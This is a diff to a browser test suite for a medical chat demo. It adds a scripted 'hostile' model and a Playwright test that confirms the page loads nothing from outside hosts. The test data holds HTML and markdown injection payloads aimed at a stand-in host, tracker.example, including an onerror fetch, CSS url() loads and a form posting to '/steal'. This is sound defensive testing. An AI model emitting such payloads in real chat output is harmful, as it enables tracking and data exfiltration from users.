@@ -19,9 +19,7 @@ from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
-
-from medqa.formatting import conversation
-from medqa.tiny import IM_END
+from scripted_model import build_scripted_checkpoint
 
 REPO_ROOT = Path(__file__).resolve().parent.parent
 ARTIFACTS = REPO_ROOT / "test-artifacts" / "demo"
@@ -35,6 +33,28 @@ CHROMIUM_ARGS = [
     "--no-first-run",
 ]
 SCRIPTED_THINK, SCRIPTED_ANSWER = "先判断是否危急", "建议及时就医"
+# A model that tries every way to make the page load something from outside (or show a form), in its
+# thinking, in a second think block and in its answer. Each piece is one added token of the scripted
+# checkpoint, so tags and quotes may repeat inside it.
+OUTSIDE = "http://tracker.example"
+# One token, so the think tags inside it do not repeat the chain's own.
+HOSTILE_THINK = (
+    f'想一想 <img src="{OUTSIDE}/think.png"> ![t]({OUTSIDE}/think-md.png) <a href="{OUTSIDE}/t">t</a>'
+    f"</think>草稿 <img src={OUTSIDE}/draft.png><think>"
+    f'再想 <div style="background:url({OUTSIDE}/css.png)">css</div> <svg><image href="{OUTSIDE}/svg.png"/></svg>'
+)
+HOSTILE_ANSWER = (
+    f'最终回答 <img srcset="{OUTSIDE}/srcset.png 2x" src="{OUTSIDE}/a.png" onerror="fetch(\'{OUTSIDE}/js\')">'
+    f" ![m]({OUTSIDE}/md.png) ![r][ref] [链接]({OUTSIDE}/link) <{OUTSIDE}/autolink>"
+    f'\n\n[ref]: {OUTSIDE}/ref.png\n\n<form action="{OUTSIDE}/steal"><input name="id"><button>提交</button></form>'
+    f"<style>body{{background:url({OUTSIDE}/style.png)}}</style><link rel=stylesheet href={OUTSIDE}/x.css>"
+    f"<iframe src={OUTSIDE}/frame></iframe><video poster={OUTSIDE}/poster.png></video>"
+    f"<picture><source srcset={OUTSIDE}/source.png></picture>"
+)
+HOSTILE_USER = (
+    f'<img src="{OUTSIDE}/user.png"> ![u]({OUTSIDE}/user-md.png) <form action={OUTSIDE}/u><input></form>'
+    f'<p style="background-image:url({OUTSIDE}/user-css.png)">我头痛</p>'
+)
 MAX_INPUT_CHARS = 300
 READY_TIMEOUT_S = 180  # generous: CI shares two cores with everything else
 REPLY_TIMEOUT_MS = 90_000
@@ -49,38 +69,6 @@ RECORD_REPLY_STATES = """() => {
 }"""
 
 
-def build_scripted_checkpoint(tiny_dir: Path, out: Path) -> Path:
-    """The tiny Qwen3 with weights set so it always replies `<think>SCRIPTED_THINK</think>SCRIPTED_ANSWER`.
-
-    It stands in for a fine-tuned model: a real checkpoint that the loader, chat template and streamer
-    treat like any other, but whose reply, unlike the random tiny model's, has reasoning and an answer.
-    Every layer adds nothing to the residual stream, so the next token depends on the current one only,
-    and the untied output head maps each token of the script to the one after it.
-    """
-    import torch
-    from transformers import AutoModelForCausalLM, AutoTokenizer
-
-    tokenizer = AutoTokenizer.from_pretrained(tiny_dir)
-    model = AutoModelForCausalLM.from_pretrained(tiny_dir)
-    prompt = tokenizer.apply_chat_template(conversation("?"), tokenize=False, add_generation_prompt=True)
-    script = f"<think>{SCRIPTED_THINK}</think>{SCRIPTED_ANSWER}{IM_END}"
-    chain = [tokenizer(prompt, add_special_tokens=False).input_ids[-1]]
-    chain += tokenizer(script, add_special_tokens=False).input_ids
-    assert len(set(chain)) == len(chain), "a token repeats in the script; a bigram chain cannot follow it"
-    with torch.no_grad():
-        for layer in model.model.layers:
-            layer.self_attn.o_proj.weight.zero_()
-            layer.mlp.down_proj.weight.zero_()
-        states = model.model.norm(model.model.embed_tokens.weight[chain[:-1]])
-        head = torch.zeros_like(model.model.embed_tokens.weight)
-        head[chain[1:]] = 30 * states / states.pow(2).sum(-1, keepdim=True)
-    model.config.tie_word_embeddings = False
-    model.lm_head.weight = torch.nn.Parameter(head)
-    model.save_pretrained(out)
-    tokenizer.save_pretrained(out)
-    return out
-
-
 def build_lora_adapter(tiny_dir: Path, out: Path) -> Path:
     """A freshly initialised LoRA adapter on the tiny Qwen3: the shape `recipes/sft.py` saves."""
     from peft import LoraConfig, get_peft_model
@@ -89,6 +77,16 @@ def build_lora_adapter(tiny_dir: Path, out: Path) -> Path:
     model = AutoModelForCausalLM.from_pretrained(tiny_dir)
     get_peft_model(model, LoraConfig(r=4, target_modules=["q_proj", "v_proj"])).save_pretrained(out)
     return out
+
+
+# (tag, attribute, text) of every element in the chat whose resource attributes or stylesheet name the
+# outside host (text and aria-labels may quote it: they load nothing).
+NAMING_OUTSIDE = """() => [...document.querySelectorAll('#medqa-chatbot *')].flatMap(e => [
+  ...[...e.attributes]
+    .filter(a => /^(src|srcset|href|xlink:href|action|formaction|poster|style|data|background)$/.test(a.name))
+    .filter(a => a.value.includes('tracker.example')).map(a => [e.tagName, a.name, e.textContent]),
+  ...(e.tagName === 'STYLE' && e.textContent.includes('tracker.example') ? [[e.tagName, '', e.textContent]] : []),
+])"""
 
 
 def free_port() -> int:
@@ -139,8 +137,16 @@ def demo_url(tiny_model_dir, tmp_path_factory) -> Iterator[str]:
 
     Three choices and the default of two models in memory: switching also exercises reloading."""
     work = tmp_path_factory.mktemp("demo")
-    scripted = build_scripted_checkpoint(tiny_model_dir, work / "scripted")
+    scripted = build_scripted_checkpoint(
+        tiny_model_dir, work / "scripted", f"<think>{SCRIPTED_THINK}</think>{SCRIPTED_ANSWER}"
+    )
     adapter = build_lora_adapter(tiny_model_dir, work / "lora")
+    hostile = build_scripted_checkpoint(
+        tiny_model_dir,
+        work / "hostile",
+        f"<think>{HOSTILE_THINK}</think>{HOSTILE_ANSWER}",
+        added_tokens=[HOSTILE_THINK, HOSTILE_ANSWER],
+    )
     port = free_port()
     command = [sys.executable, "-m", "medqa.cli", "demo", "--model", f"full={scripted}"]
     command += [
@@ -148,6 +154,8 @@ def demo_url(tiny_model_dir, tmp_path_factory) -> Iterator[str]:
         f"base={tiny_model_dir}",
         "--model",
         f"lora={adapter}",
+        "--model",
+        f"hostile={hostile}",
         "--base",
         str(tiny_model_dir),
     ]
@@ -246,6 +254,76 @@ def test_browser_chat_streams_reasoning_switches_models_stops_and_warns(demo_url
         finally:
             browser.close()
     assert external == [], f"the page tried to reach the network: {external}"
+
+
+@pytest.mark.browser
+def test_browser_loads_nothing_from_outside_for_hostile_model_and_user_text(demo_url):
+    """Images, links, CSS url(), srcset, forms and a second think block, in the answer, the thinking and
+    the user's message: the page makes zero requests to other hosts and shows no form."""
+    if not CHROMIUM.exists():
+        pytest.fail(f"{CHROMIUM} is missing: run `make system-deps` (Debian package `chromium`)")
+    from playwright.sync_api import expect, sync_playwright
+
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    requests: list[str] = []
+    outside: list[str] = []
+
+    def count(route) -> None:
+        requests.append(route.request.url)
+        if route.request.url.startswith(demo_url.rstrip("/")):
+            route.continue_()
+        else:
+            outside.append(route.request.url)
+            route.abort()
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
+        try:
+            page = browser.new_page(viewport={"width": 1280, "height": 1400})
+            page.route("**/*", count)
+            response = page.goto(demo_url)
+            assert "img-src 'self'" in response.headers["content-security-policy"]
+            expect(page.locator("#medqa-disclaimer")).to_contain_text("120", timeout=60_000)
+            page.click("#medqa-model input")
+            page.get_by_role("option", name="hostile").click()
+            expect(page.locator("#medqa-model input")).to_have_value("hostile")
+            ask(page, HOSTILE_USER)
+            chat = page.locator("#medqa-chatbot")
+            expect(chat.locator(".bot-row").last).to_contain_text("最终回答", timeout=REPLY_TIMEOUT_MS)
+            wait_until_idle(page)
+            expect(chat).to_contain_text("Several reasoning blocks")  # flagged
+            thought = chat.locator(".thought-group").first
+            thought.locator(".title").click()
+            expect(thought).to_contain_text("想一想")
+            expect(thought).to_contain_text("再想")  # the second block is there too, not hiding the answer
+            expect(chat.locator(".bot-row").last).to_contain_text(
+                '<form action="http://tracker.example/steal">'
+            )
+            expect(chat.locator(".user-row").last).to_contain_text("我头痛")
+            page.wait_for_timeout(1500)  # give lazy images and late fetches their chance
+            for selector in (
+                "img",
+                "[srcset]",
+                "form",
+                "input",
+                "iframe",
+                "video",
+                "picture",
+                "svg image",
+                "link",
+            ):
+                assert chat.locator(f".message-content {selector}").count() == 0, selector
+            # What still names the outside host: only bare URLs, shown as themselves (never fetched).
+            naming = page.evaluate(NAMING_OUTSIDE)
+            print(f"\nelements naming {OUTSIDE}: {naming}")
+            assert all(tag == "A" and text.startswith(OUTSIDE) for tag, _, text in naming), naming
+            screenshot = ARTIFACTS / "demo-hostile.png"
+            page.screenshot(path=str(screenshot), full_page=True)
+            print(f"\nscreenshot: {screenshot}; {len(requests)} requests, all to {demo_url}")
+        finally:
+            browser.close()
+    assert requests, "the route saw no request at all: it would count nothing"
+    assert outside == [], f"the page tried to reach other hosts: {outside}"
 
 
 def test_eight_concurrent_gradio_client_sessions(demo_url):
